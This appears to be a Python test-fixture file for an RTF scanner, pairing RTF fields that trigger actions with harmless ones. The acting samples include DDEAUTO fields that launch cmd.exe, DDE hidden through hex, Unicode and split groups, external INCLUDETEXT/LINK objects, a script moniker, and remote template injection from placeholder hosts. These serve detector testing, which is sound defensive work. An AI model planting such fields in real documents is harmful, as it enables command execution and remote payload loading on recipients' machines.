"""Fields and templates of RTF that act, however they are written, and those that do not."""

from __future__ import annotations

ACTING = {
    "dde": (rb"{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe '/k calc'}{\fldrslt shown}}", "dde"),
    "not marked": (rb"{\field{\fldinst  dde cmd calc}{\fldrslt shown}}", "dde"),
    "in pieces": (rb"{\field{\*\fldinst {\rtlch\insrsid7 D}{\b DE}\i A{U}TO cmd}{\fldrslt shown}}", "dde"),
    "in hexadecimal": (rb"{\field{\*\fldinst \'44\'44\'45AUTO cmd}{\fldrslt shown}}", "dde"),
    "in Unicode": (rb"{\field{\*\fldinst {\uc2\u68 xyD\u69\'41\'42AUTO} cmd}{\fldrslt shown}}", "dde"),
    "with line ends": (b"{\\field{\\*\\fldinst D\r\nD\r\nE cmd}{\\fldrslt shown}}", "dde"),
    "with a group nobody knows": (rb"{\field{\*\fldinst D{\*\nobody {x}}DE cmd}{\fldrslt shown}}", "dde"),
    "with a picture in it": (rb"{\field{\*\fldinst D{\pict 00}DE cmd}{\fldrslt shown}}", "dde"),
    "with binary data": (b"{\\field{\\*\\fldinst D\\bin3 }}}DE cmd}{\\fldrslt shown}}", "dde"),
    "within another": (rb"{\field{\*\fldinst IF 1 {\field{\*\fldinst DDE cmd}}}{\fldrslt shown}}", "dde"),
    "after a backslash": (rb"\\{\field{\*\fldinst DDE cmd}{\fldrslt shown}}", "dde"),
    "picture": (rb'{\field{\*\fldinst INCLUDEPICTURE "https://host/a.png" \\d}{\fldrslt shown}}', "external_object"),
    "share": (rb'{\field{\*\fldinst INCLUDETEXT "\\\\\\\\host\\\\a.doc"}{\fldrslt shown}}', "external_object"),
    "share by address": (rb'{\field{\*\fldinst INCLUDETEXT "file://host/a.doc"}{\fldrslt shown}}', "external_object"),
    "link": (rb'{\field{\*\fldinst LINK Word.Document.8 "http://host/a.doc" "" \\a}{\fldrslt x}}', "external_object"),
    "computed": (rb"{\field{\*\fldinst INCLUDETEXT {\field{\*\fldinst QUOTE 104}}}{\fldrslt x}}", "external_object"),
    "moniker": (rb'{\field{\*\fldinst LINK htmlfile "script:http://host/a"}{\fldrslt x}}', "external_moniker"),
    "template": (rb"{\*\template http://host/a.dotm}", "external_template"),
    "template in pieces": (rb"{\*\template {ht}\'74p{\*\x y}\u58?//host/a.dotm}", "external_template"),
    "template on a share": (rb"{\*\template \\\\host\\a.dotm}", "external_template"),
}
HARMLESS = {
    "hyperlink": rb'{\field{\*\fldinst HYPERLINK "https://host/dde"}{\fldrslt shown}}',
    "date": rb'{\field{\*\fldinst DATE \\@ "dd.MM.yyyy"}{\fldrslt shown}}',
    "merge field": rb"{\field{\*\fldinst MERGEFIELD Address}{\fldrslt shown}}",
    "local picture": rb'{\field{\*\fldinst INCLUDEPICTURE "C:\\\\pictures\\\\a.png" \\* MERGEFORMAT}{\fldrslt shown}}',
    "local template": rb"{\*\template C:\\Users\\me\\Normal.dotm}",
    "words in a text": rb"the control word \\fldinst DDE cmd, and DDEAUTO",
    "word for the result": rb"{\field{\*\fldinst PAGE}{\fldrslt DDE cmd}}",
}


def document(body: bytes) -> bytes:
    """A document with this in its text."""
    return b"{\\rtf1\\ansi before " + body + b" after}"
